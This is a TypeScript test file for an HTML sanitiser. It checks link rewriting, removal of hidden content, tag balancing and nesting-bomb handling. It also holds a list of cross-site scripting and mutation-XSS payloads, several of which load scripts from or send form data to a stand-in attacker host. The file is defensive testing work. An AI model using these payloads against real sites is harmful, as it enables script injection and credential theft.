import { parseHTML } from "linkedom";
import { describe, expect, test } from "vitest";
import { ALLOWED_ELEMENTS, sanitise } from "../../src/html/sanitise.ts";

const BASE = "https://blog.example/2026/post";
const REL = 'rel="nofollow noopener noreferrer ugc"';

function elementsOf(html: string): Element[] {
  return [...parseHTML(`<!doctype html><html><body>${html}</body></html>`).document.body.querySelectorAll("*")];
}

function whatLeaks(html: string): string[] {
  return elementsOf(html).flatMap((element) => {
    const allowed = ALLOWED_ELEMENTS[element.localName];
    if (allowed === undefined) return [`<${element.localName}>`];
    const attributes = [...element.attributes].filter(({ name }) => ![...allowed, "dir", "lang"].includes(name));
    const href = element.getAttribute("href");
    const target = href === null || /^(?:https?:\/\/|mailto:)/.test(href) ? [] : [`href=${href}`];
    return [...attributes.map(({ name }) => `${element.localName} ${name}`), ...target];
  });
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)//",
  "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' &#14; javascript:alert(1)'>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
  "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<a href='//evil.example' target=_top ping=//evil.example>x</a>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href=javascript:alert(1)>x</math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe><img src=x onerror=alert(1)></iframe>",
  "<iframe src='https://www.youtube.com.evil.example/embed/abcdefghijk'></iframe>",
  "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
  "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import '//evil.example'</style><p style='background:url(//evil.example)'>x</p>",
  "<div style='position:fixed;inset:0' id=login class=overlay>x</div>",
  "<a id=document name=cookie>x</a><img name=getElementById>",
  "<template><script>alert(1)</script></template>",
  "<video src=x onerror=alert(1) poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<table background=javascript:alert(1)><td background=//evil.example>x</td></table>",
  "<details ontoggle=alert(1) open><summary>x</summary></details>",
  "<p title='a' data-x=1 contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
  "<x-y onclick=alert(1)><marquee onstart=alert(1)>x</marquee></x-y>",
  "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y '<script>'>]>",
  "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
  '<p "<img src=x onerror=alert(1)>">x</p>',
  "<plaintext><script>alert(1)</script>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

describe("the sanitiser", () => {
  test.each(ATTACKS)("lets nothing through of %s", (attack) => {
    const once = sanitise(attack, BASE);
    expect(whatLeaks(once)).toEqual([]);
    expect(whatLeaks(sanitise(once, BASE))).toEqual([]);
  });

  test("keeps what an article is made of", () => {
    const article =
      '<h2>Head</h2><p>A <em>b</em> <strong>c</strong> <code>d</code></p><ul><li>one</li></ul><ol start="3"><li>three</li></ol>' +
      '<blockquote><p>q</p></blockquote><pre>x\n  y</pre><table><tbody><tr><th scope="row">h</th><td colspan="2">1</td></tr></tbody></table>' +
      "<figure><figcaption>f</figcaption></figure><dl><dt>t</dt><dd>d</dd></dl>";
    expect(sanitise(article, BASE)).toBe(article);
  });

  test.each([
    ["/about", `<a href="https://blog.example/about" ${REL}>x</a>`],
    ["../b#c", `<a href="https://blog.example/b#c" ${REL}>x</a>`],
    ["//other.example/a", `<a href="https://other.example/a" ${REL}>x</a>`],
    ["https://bank.example@evil.example/", `<a href="https://evil.example/" ${REL}>x</a>`],
    ["mailto:ann@blog.example?bcc=all@evil.example", `<a href="mailto:ann@blog.example" ${REL}>x</a>`],
    ["ftp://files.example/", "<span>x</span>"],
    ["tel:+123", "<span>x</span>"],
    ["", "<span>x</span>"],
  ])("makes of a link to %j what may be opened", (href, out) => {
    expect(sanitise(`<a href="${href}" target="_blank" rel="opener">x</a>`, BASE)).toBe(out);
  });

  test("a relative link without a base loses its target", () => {
    expect(sanitise('<a href="/a">x</a> <a href="https://a.example/">y</a>', undefined)).toBe(
      `<span>x</span> <a href="https://a.example/" ${REL}>y</a>`,
    );
  });

  test.each([
    ['<img src="/cat.png" alt="A cat">', `<a href="https://blog.example/cat.png" ${REL}>picture: A cat</a>`],
    [
      '<a href="/big"><img src="/cat.png" alt="A cat"></a>',
      `<a href="https://blog.example/big" ${REL}><span>picture: A cat</span></a>`,
    ],
    ['<img src="data:image/png;base64,AA" alt="A cat">', "<span>picture: A cat</span>"],
    ['<img src="/pixel.gif" width="1" height="1">', ""],
    ['<img src="/smile.png" alt="🙂"> after', "<span>🙂</span> after"],
    [
      '<iframe src="//www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1" title="Talk">No frames here</iframe> after',
      `<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" ${REL}>video: Talk</a> after`,
    ],
    ['<iframe src="https://ads.example/">fallback</iframe>after', "after"],
  ])("loads nothing for %s", (html, out) => {
    expect(sanitise(html, BASE)).toBe(out);
  });

  test("what was hidden does not become visible", () => {
    expect(sanitise('<p>a<span style="display:none">secret</span><b hidden>too</b>b</p>', BASE)).toBe("<p>ab</p>");
    expect(sanitise("<p>a\u202Eb\u200Bc</p>", BASE)).toBe("<p>abc</p>");
  });

  test.each([
    ["<p>a<i hidden>b<b>c</b></i>d</p>", "<p>ad</p>"],
    ["<p hidden>a<p>b", "<p>b</p>"],
    ["a<p hidden>b", "a"],
    ["<div><p hidden>a</div>b", "<div></div>b"],
    ["a<br hidden>b<br>c", "ab<br />c"],
    ["<iframe src=x>f</iframe>a<b>b</b>", "a<b>b</b>"],
    ['<p>a<span style="font-size:0">b</span>c</p>', "<p>ac</p>"],
    ['<p style="opacity:0.5">a</p><p style="position:absolute;left:-9999px">b</p>', "<p>a</p>"],
    ["<iframe src=x>f", ""],
    ["<ul><li hidden>a<li>b</ul>", "<ul><li>b</li></ul>"],
  ])("cuts what is not shown out of %s and nothing else", (html, out) => {
    expect(sanitise(html, BASE)).toBe(out);
  });

  test("every start tag has its own end tag after anything that was dropped or renamed", () => {
    for (const dropped of [
      "<a>x</a>",
      "<li>x</li>",
      "<img>",
      "<iframe src=x></iframe>",
      "<b hidden>x</b>",
      "<x-y>z</x-y>",
      "<svg><a></svg>",
    ]) {
      for (const kept of ["<b>y</b>", "<ul><li>y</li></ul>", "<p>y</p>"]) {
        expect(sanitise(dropped + kept, BASE)).toMatch(new RegExp(`${kept}$`));
        expect(sanitise(`<div>${dropped}</div>${kept}`, BASE)).toMatch(new RegExp(`</div>${kept}$`));
      }
    }
  });

  test("parts of lists and tables that would close the page's own are only text", () => {
    expect(sanitise("<li>a</li><td>b</td></div></ul></table><dd>c</dd>", BASE)).toBe(
      "<span>a</span><span>b</span><span>c</span>",
    );
  });

  test("whatever is left open is closed", () => {
    expect(sanitise("<div><ul><li><b>x", BASE)).toBe("<div><ul><li><b>x</b></li></ul></div>");
  });

  test("a bomb becomes plain paragraphs or nothing, and at once", () => {
    expect(sanitise(`<p>before &lt;b&gt;</p>${"<div>".repeat(500_000)}`, BASE)).toBe("<p>before &lt;b&gt;</p>");
    expect(sanitise(`${"<b>".repeat(800_000)}${"</i>".repeat(600_000)}`, BASE)).toBe("");
    for (const part of ["<iframe>", "<noscript></p>", "<li>", "<!--", "<img alt=x src=y>", "&", "<a href=' "]) {
      expect(whatLeaks(sanitise(part.repeat(200_000 / part.length), BASE))).toEqual([]);
    }
  });
});
